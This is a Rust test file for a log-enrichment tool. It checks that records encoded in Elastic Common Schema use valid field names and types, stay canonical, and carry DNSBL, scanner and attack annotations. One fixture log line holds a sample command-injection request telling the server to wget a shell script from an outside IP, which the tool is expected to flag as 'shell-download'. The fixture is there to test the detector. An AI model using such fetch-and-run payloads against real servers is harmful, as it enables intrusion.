//! The ECS encoding of real records (every record shape, every enrichment) checked against
//! ECS's own field reference: `ecs_flat.yml` of ECS 9.4.0, vendored in
//! `types/vendor/ecs-9.4.0/`.

use std::collections::BTreeMap;
use std::io::Read;

use super::*;

/// ECS's fields and their types, read from the vendored `ecs_flat.yml`: each top-level
/// key is a field name, its `type:` one level in.
fn ecs_fields() -> BTreeMap<String, String> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../types/vendor/ecs-9.4.0/ecs_flat.yml.gz"
    );
    let mut text = String::new();
    flate2::read::GzDecoder::new(std::fs::File::open(path).unwrap())
        .read_to_string(&mut text)
        .unwrap();
    let mut fields = BTreeMap::new();
    let mut current = None;
    for line in text.lines() {
        if !line.starts_with(' ') && line.ends_with(':') {
            current = Some(line.trim_end_matches(':').trim_matches('\'').to_owned());
        } else if let (Some(name), Some(ty)) = (&current, line.strip_prefix("  type: ")) {
            fields.insert(name.clone(), ty.trim().to_owned());
        }
    }
    fields
}

/// Every leaf of `doc` as (dotted name, value); an array's items each count as the
/// field's value, and a `geo_point` object is one value.
fn leaves<'a>(
    prefix: &str,
    v: &'a Json,
    ecs: &BTreeMap<String, String>,
    out: &mut Vec<(String, &'a Json)>,
) {
    match v {
        Json::Object(map) if ecs.get(prefix).is_none_or(|t| t != "geo_point") => {
            for (k, v) in map {
                let name = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                leaves(&name, v, ecs, out);
            }
        }
        Json::Array(items) => items.iter().for_each(|i| leaves(prefix, i, ecs, out)),
        _ => out.push((prefix.to_owned(), v)),
    }
}

/// Whether `v` is a value of the ECS type `ty`.
fn fits(ty: &str, v: &Json) -> bool {
    match ty {
        "keyword" | "wildcard" | "match_only_text" | "text" | "constant_keyword" => v.is_string(),
        "long" | "integer" | "short" | "byte" | "unsigned_long" => v.is_i64() || v.is_u64(),
        "float" | "double" | "scaled_float" | "half_float" => v.is_number(),
        "boolean" => v.is_boolean(),
        "ip" => v.as_str().is_some_and(|s| s.parse::<IpAddr>().is_ok()),
        "date" => v.as_str().is_some_and(|s| {
            time::OffsetDateTime::parse(s, &time::format_description::well_known::Rfc3339).is_ok()
        }),
        "geo_point" => {
            v.get("lat").is_some_and(Json::is_number) && v.get("lon").is_some_and(Json::is_number)
        }
        _ => false,
    }
}

fn ecs_lines() -> Vec<String> {
    vec![
        // Every lookup answers (Double: PTR, DNSBL listing, GeoIP), a scanner UA, an
        // attack, an X-Forwarded-For chain, a port and host, extra fields.
        r#"198.51.100.9 - bob [19/Jul/2022:13:23:20 +0200] "GET /a/b.php?cmd=wget%20http://192.0.2.1/x.sh HTTP/1.1" 200 3167 "http://r.test/" "Mozilla/5.0 zgrab/0.x" "203.0.113.5, unknown" 443 www.example.org 0.005"#.to_string(),
        r#"<190>Jul  8 11:07:07 web-1 nginx[2869]: 2001:db8::7 - - [08/Jul/2023:11:07:07 +0000] "POST / HTTP/2.0" 404 - "-" "-""#.to_string(),
        r#"2023/09/08 13:50:28 [error] 7164#7164: *20 limiting requests, excess: 50.416 by zone "api", client: 192.0.2.38, server: example.org, request: "GET / HTTP/2.0", upstream: "http://10.0.0.1:80/", host: "example.org", referrer: "http://r.test/""#.to_string(),
        "[Wed Oct 20 19:20:59.121211 2021] [rewrite:trace3] [pid 121591:tid 140413273032448] mod_rewrite.c(470): (13)Permission denied: [client 203.0.113.1:38350] AH00126: x".to_string(),
        "unix: - - [19/Jul/2022:13:23:20 +0200] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"".to_string(),
        "\\x16\\x03\\x01 not a log line".to_string(),
    ]
}

fn ecs_filter(extra: &[Setting]) -> Filter {
    let mut settings = vec![
        Setting::new(
            "dnsbl-zones",
            SettingValue::Texts(vec!["zen.spamhaus.org".into()]),
        ),
        Setting::new("encoding", SettingValue::Text("ecs".into())),
        Setting::new("cymru", SettingValue::Flag(true)),
    ];
    settings.extend_from_slice(extra);
    Filter::new(&settings).unwrap()
}

#[test]
fn every_ecs_field_written_is_in_ecs_with_its_type() {
    let ecs = ecs_fields();
    assert!(
        ecs.len() > 1000 && ecs["@timestamp"] == "date",
        "read {} fields",
        ecs.len()
    );
    assert!(!ecs.keys().any(|k| k.starts_with("logenrich.")));
    let original = Setting::new("event-original", SettingValue::Flag(true));
    let (docs, stats, text) = run(
        &ecs_filter(&[original]),
        &mut Double::default(),
        1,
        Some("a.log"),
        &ecs_lines(),
    );
    assert_eq!((stats.parsed, stats.errors), (5, 1), "{text}");
    let mut seen = std::collections::BTreeSet::new();
    for doc in &docs {
        let mut all = Vec::new();
        leaves("", doc, &ecs, &mut all);
        for (name, value) in all {
            if name.starts_with("logenrich.") {
                continue;
            }
            let ty = ecs
                .get(&name)
                .unwrap_or_else(|| panic!("{name} is not an ECS field: {doc}"));
            assert!(fits(ty, value), "{name} ({ty}) = {value} in {doc}");
            seen.insert(name);
        }
    }
    // The mapping is exercised, not just allowed: each of these was written.
    for name in [
        "@timestamp",
        "source.ip",
        "source.address",
        "source.port",
        "source.domain",
        "source.geo.location",
        "source.geo.country_iso_code",
        "source.as.number",
        "source.as.organization.name",
        "user.name",
        "http.request.method",
        "http.version",
        "http.request.referrer",
        "http.response.status_code",
        "http.response.body.bytes",
        "url.original",
        "url.path",
        "url.query",
        "url.domain",
        "url.port",
        "user_agent.original",
        "network.forwarded_ip",
        "event.original",
        "event.timezone",
        "log.syslog.hostname",
        "log.syslog.appname",
        "log.syslog.procid",
        "log.syslog.facility.name",
        "log.syslog.severity.name",
        "log.level",
        "log.logger",
        "log.origin.file.name",
        "log.origin.file.line",
        "log.file.path",
        "process.pid",
        "process.thread.id",
        "error.code",
        "error.message",
        "message",
        "server.address",
        "tags",
        "event.kind",
        "event.category",
        "event.type",
        "ecs.version",
    ] {
        assert!(seen.contains(name), "{name} was never written: {text}");
    }
}

#[test]
fn ecs_documents_are_canonical_and_keep_what_ecs_has_no_field_for() {
    let (docs, _, text) = run(
        &ecs_filter(&[]),
        &mut Double::default(),
        1,
        None,
        &ecs_lines(),
    );
    let (_, _, again) = run(
        &ecs_filter(&[]),
        &mut Double::default(),
        1,
        None,
        &ecs_lines(),
    );
    assert_eq!(text, again);
    // ECS keys sorted at every level, no spaces (what serde_json writes for sorted
    // maps); the `logenrich` values as the default encoding wrote them.
    for line in text.lines() {
        let raw: BTreeMap<String, &serde_json::value::RawValue> =
            serde_json::from_str(line).unwrap();
        let mut want = String::from("{");
        for (i, (key, value)) in raw.iter().enumerate() {
            if i > 0 {
                want.push(',');
            }
            want.push_str(&serde_json::to_string(key).unwrap());
            want.push(':');
            if key == "logenrich" {
                want.push_str(value.get());
            } else {
                let v: BTreeMap<String, Json> =
                    serde_json::from_str(value.get()).unwrap_or_default();
                if v.is_empty() {
                    want.push_str(value.get());
                } else {
                    want.push_str(&serde_json::to_string(&v).unwrap());
                }
            }
        }
        want.push('}');
        assert_eq!(line, want);
    }
    let first = &docs[0];
    assert_eq!(first["logenrich"]["line"], 1);
    assert_eq!(first["logenrich"]["dnsbl"][0]["listed"], true, "{first}");
    let matched = first["logenrich"]["scanner"]["matched"].as_array().unwrap();
    assert!(matched.contains(&"shodan.io".into()), "{first}");
    assert_eq!(
        first["logenrich"]["attacks"][0]["rule"], "shell-download",
        "{first}"
    );
    assert_eq!(
        first["logenrich"]["forwarded"],
        serde_json::json!(["203.0.113.5", "unknown"])
    );
    assert_eq!(
        first["network"]["forwarded_ip"],
        serde_json::json!(["203.0.113.5"])
    );
    assert_eq!(first["tags"], serde_json::json!(["scanner", "attack"]));
    assert!(
        first["event"].get("original").is_none(),
        "event.original is opt-in"
    );
    assert_eq!(docs[2]["event"]["type"], serde_json::json!(["error"]));
    let failed = &docs[5];
    assert_eq!(failed["event"]["kind"], "pipeline_error");
    assert_eq!(failed["tags"][0], "_logenrich_parse_failure");
    assert!(failed["event"]["original"].is_string(), "{failed}");
    let bad = Filter::new(&[Setting::new("encoding", SettingValue::Text("otel".into()))]);
    assert!(bad.unwrap_err().to_string().contains("not an encoding"));
}
